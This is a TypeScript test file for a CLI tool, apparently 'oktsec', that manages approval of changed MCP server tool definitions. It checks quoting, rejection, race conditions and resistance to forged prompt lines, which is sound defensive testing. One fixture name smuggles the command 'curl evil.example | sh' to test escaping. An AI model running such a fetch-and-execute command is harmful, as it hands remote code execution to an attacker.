import { join } from 'node:path';
import Database from 'better-sqlite3';
import { expect, test } from 'vitest';
import type { Pin } from '../../src/pins/pin.ts';
import { putPins, readPins } from '../../src/store/kept/pins.ts';
import { openRecorder } from '../../src/store/recorder.ts';
import { entry, NOW, World } from './world.ts';

const waiting = (kind: Pin['kind'], name: string): Pin => ({
  server: 'cursor.weather',
  launch: 'npx -y weather',
  kind,
  name,
  state: 'pending',
  approved: '{}',
  offered: '{"url":"string"}',
  reasons: ['new host parameter "url"'],
  by: 'first use',
});

async function pinned(world: World, ...pins: readonly Pin[]): Promise<void> {
  const log = openRecorder({ home: world.home, now: () => NOW, warn: () => undefined });
  if ((await log.commit({ entry: entry({ to: 'cursor.weather' }), pins })) !== 'won') throw new Error('not pinned');
  await log.close();
}

test.each([
  ['tool', 'get_forecast', 'get_forecast'],
  ['tool', 'two words', "'two words'"],
  ['tool', 'x; curl evil.example | sh', "'x; curl evil.example | sh'"],
  ['tool', '--all', 'TOOL'],
  ['instructions', '', 'instructions'],
] as const)('the command that is named for a waiting %s %j can be pasted', async (kind, name, word) => {
  const world = new World();
  world.config('version: "1"\n');
  await pinned(world, waiting(kind, name));
  const { out } = await world.run(['pins', 'list', '--waiting']);
  expect(out.trimEnd().split('\n').at(-1)).toBe(
    `oktsec pins diff cursor.weather, then oktsec pins approve cursor.weather ${word}`,
  );
});

test('a no to a change vouches for nothing, a no to what stood there is forgotten by nobody', async () => {
  const world = new World();
  world.config('version: "1"\n');
  await pinned(world, waiting('tool', 'changed'), { ...waiting('tool', 'never'), approved: '' });
  const stored = () => {
    const db = new Database(join(world.home, 'oktsec.db'));
    const all = readPins(db).map(({ name, state, by }) => [name, state, by]);
    db.close();
    return all;
  };
  expect(await world.run(['pins', 'reject', 'cursor.weather', '--all'])).toMatchObject({ code: 0 });
  const settled = [
    ['changed', 'rejected', 'first use'],
    ['never', 'rejected', 'person'],
  ];
  expect(stored()).toEqual(settled);
  // A relay that has not heard of it yet takes another wording for good.
  await pinned(world, { ...waiting('tool', 'never'), state: 'approved', approved: '{"a":1}', offered: undefined });
  expect(stored()).toEqual(settled);
  // The server goes back to what was approved before.
  await pinned(world, { ...waiting('tool', 'changed'), state: 'approved', offered: undefined });
  expect(stored()[0]).toEqual(['changed', 'approved', 'first use']);
});

test('a tool that waits for nothing is said by its name, also where others wait', async () => {
  const world = new World();
  world.config('version: "1"\n');
  await pinned(world, waiting('tool', 'one'), { ...waiting('tool', 'other'), state: 'approved' });
  expect(await world.run(['pins', 'approve', 'cursor.weather', 'other'], { types: 'APPROVE' })).toMatchObject({
    code: 1,
    err: expect.stringContaining('"other" of cursor.weather does not wait for approval'),
  });
});

test('what waits for a person stands in the short views too, with the command that shows it', async () => {
  const world = new World();
  world.config('version: "1"\n');
  await pinned(world, waiting('tool', 'one'), waiting('tool', 'two'));
  expect((await world.run(['status'])).out).toContain('pins    2 changed and wait: oktsec pins list --waiting\n');
  const { out } = await world.run([]);
  expect(out).toContain('pins  2 changed, withheld in enforce until somebody decides\n');
  expect(out).toMatch(/^(?:next| {4}) {2}oktsec pins list --waiting /m);
  expect(JSON.parse((await world.run(['--json'])).out)).toMatchObject([{ pins_waiting: 2 }]);
  expect(JSON.parse((await world.run(['status', '--json'])).out)).toMatchObject([{ pins_waiting: 2 }]);
});

test('what is approved is what was shown: the question has what changed, line by line', async () => {
  const world = new World();
  world.config('version: "1"\n');
  await pinned(world, waiting('tool', 'one'));
  const ran = await world.run(['pins', 'approve', 'cursor.weather', 'one'], { types: 'APPROVE' });
  expect(ran).toMatchObject({ code: 0, out: expect.stringContaining('approved 1 of cursor.weather') });
  expect(ran.asked).toContain('approve cursor.weather tool one: new host parameter "url"\n');
  expect(ran.asked).toContain('\n+   "url": "string"\n');
});

test.each([['one'], ['--all']])(
  'a definition that its server exchanged while the question was open is not approved (%s)',
  async (which) => {
    const world = new World();
    world.config('version: "1"\n');
    await pinned(world, waiting('tool', 'one'), waiting('tool', 'two'));
    // What a relay learns while the person reads.
    const exchanged = () => {
      const db = new Database(join(world.home, 'oktsec.db'));
      putPins(db, [{ ...waiting('tool', 'one'), offered: '{"command":"string","url":"string"}' }], NOW);
      db.close();
      return 'APPROVE';
    };
    expect(await world.run(['pins', 'approve', 'cursor.weather', which], { types: exchanged })).toMatchObject({
      code: 1,
      err: expect.stringContaining('cursor.weather changed what it offers, or somebody decided, while you were asked'),
    });
    const pins = JSON.parse((await world.run(['pins', 'list', 'cursor.weather', '--json'])).out);
    const states = Object.fromEntries(pins.map(({ name, state }: Pin) => [name, state]));
    expect(states).toEqual({ one: 'pending', two: which === '--all' ? 'approved' : 'pending' });
  },
);

test('a name with line breaks forges no line of the question', async () => {
  const world = new World();
  world.config('version: "1"\n');
  const name = 'one: only its wording changed\ntype APPROVE to do it: ';
  await pinned(world, waiting('tool', name));
  const { asked } = await world.run(['pins', 'approve', 'cursor.weather', name], { types: 'no' });
  expect(asked).toContain('tool one: only its wording changed\\x0atype APPROVE to do it: : new host');
});
